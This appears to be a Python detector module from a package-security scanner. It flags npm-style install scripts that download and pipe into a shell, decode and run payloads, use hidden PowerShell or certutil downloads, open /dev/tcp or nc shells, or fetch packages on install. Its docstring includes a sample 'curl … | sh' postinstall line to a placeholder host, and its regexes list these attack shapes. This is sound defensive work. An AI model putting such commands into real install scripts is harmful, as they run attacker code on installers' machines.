"""An install script fetches something and runs it, or hides what it runs.

*What it does*

Reads the command lines of the lifecycle scripts and speaks of those that download (`curl`, `wget`, PowerShell), pipe
into a shell or an interpreter, carry code or an encoded payload on the line itself, or run a package fetched for the
occasion (`npx`, `npm install`).

*Why it matters*

It runs with your rights the moment the package is installed, before anybody has read a line of it. About three of four
malicious packages use it, and what it fetches can be changed after you have looked.

*Example*

    name = "acme-widgets"

    [release.manifest.scripts]
    postinstall = "curl -s https://cdn.acme.invalid/setup.sh | sh"
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from assay.detectors.metadata._lifecycle import (
    MAX_COMMAND,
    LifecycleScript,
    install_scripts,
    prepare_scripts,
)
from assay.detectors.metadata._manifest_place import entry_evidence, manifest_of
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Confidence, Rule, Severity
from assay.model.subject import Subject

RULE = Rule(
    id="install-script-fetches",
    title="Install script that fetches or hides what it runs",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install it with scripts on. Read what the script would fetch, or use a package that ships its code.",
    techniques=("T1195.002", "T1059.007", "T1105"),
)

_URL = r"(?:https?|ftp)://"
_INTERPRETER = r"(?:ba|z|da|k)?sh|node|python3?|perl|ruby|bun|deno|pwsh|powershell"
#: What the line does, and the shape of it; the first that fits is reported.
_SHAPES = (
    ("downloads and pipes it into an interpreter", rf"(?:curl|wget)\b[^\n]*\|\s*(?:sudo\s+)?(?:{_INTERPRETER})\b"),
    ("decodes something and runs it", rf"base64\s+(?:-d|-D|--decode)\b[^\n]*\|\s*(?:{_INTERPRETER})\b"),
    ("runs PowerShell with a hidden or encoded command", r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s-(?:e(?:nc\w*)?|w\w*\s+hidden)\b"),
    ("downloads with PowerShell", r"(?i)\b(?:powershell|pwsh)\b[^\n]*(?:Invoke-WebRequest|iwr\b|DownloadString|DownloadFile|Start-BitsTransfer)"),
    ("downloads with a system tool", r"(?i)\b(?:certutil\b[^\n]*-urlcache|bitsadmin\b[^\n]*/transfer|mshta\s+http)"),
    ("downloads a file", rf"\b(?:curl|wget)\b[^\n]*{_URL}"),
    ("opens a shell over the network", r"/dev/(?:tcp|udp)/|\bnc\s+-\w*e"),
    ("runs code that stands on the command line, with network, process or decoding in it",
     r"\bnode\s+(?:-e|-p|-pe|--eval|--print)\b[^\n]*(?:https?\b|fetch\(|child_process|Buffer\.from|eval\(|atob\(|process\.env\b(?!\.(?:npm|CI|NODE)))"),
    ("runs code that stands on the command line", r"\b(?:python3?|perl|ruby|php)\s+-(?:c|e|r)\s"),
)  # fmt: skip
_PATTERNS = tuple((what, re.compile(shape)) for what, shape in _SHAPES)
_FETCHES_PACKAGE = re.compile(
    r"^(?:npx|bunx|pnpx|(?:npm|pnpm)\s+(?:exec|x|dlx)|yarn\s+dlx)\s+(?:-\S+\s+)*(?P<package>[@\w][^\s]*)"
)
_INSTALLS_PACKAGE = re.compile(r"^(?:npm|pnpm|yarn|bun)\s+(?:i|install|add)\s+(?:-\S+\s+)*(?P<package>[@\w][^\s&|;]*)")
#: Tools that honest packages call this way to check or patch themselves.
_USUAL = re.compile(
    r"^(?:only-allow|husky|patch-package|rimraf|tsc|node-gyp|prebuild-install|napi-postinstall|npm-run-all|opencollective\S*)\b"
)


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each lifecycle script with such a shape; scripts that run only from git count less."""
    manifest = manifest_of(subject)
    if manifest is None:
        return
    for script in install_scripts(manifest):
        yield from _judge(subject, script, Confidence.HIGH)
    for script in prepare_scripts(manifest):
        yield from _judge(subject, script, Confidence.LOW)


def _judge(subject: Subject, script: LifecycleScript, confidence: Confidence) -> Iterator[Finding]:
    line = script.command[:MAX_COMMAND]
    what = next((what for what, pattern in _PATTERNS if pattern.search(line)), "")
    if what:
        severity = Severity.MEDIUM if confidence is Confidence.LOW else Severity.HIGH
        yield _finding(subject, script, what, severity, confidence)
        return
    package = next(filter(None, map(_fetched_package, script.steps)), "")
    if package and confidence is Confidence.HIGH:
        yield _finding(subject, script, f"fetches {package} and runs it", Severity.MEDIUM, Confidence.MEDIUM)


def _finding(
    subject: Subject, script: LifecycleScript, what: str, severity: Severity, confidence: Confidence
) -> Finding:
    return finding(
        RULE,
        f"the {script.name} script of {subject.ref} {what}",
        entry_evidence(subject, what, script.name, script.command),
        severity=severity,
        confidence=confidence,
    )


def _fetched_package(step: str) -> str:
    found = _FETCHES_PACKAGE.match(step) or _INSTALLS_PACKAGE.match(step)
    if found is None or _USUAL.match(found["package"]):
        return ""
    return found["package"][:100]
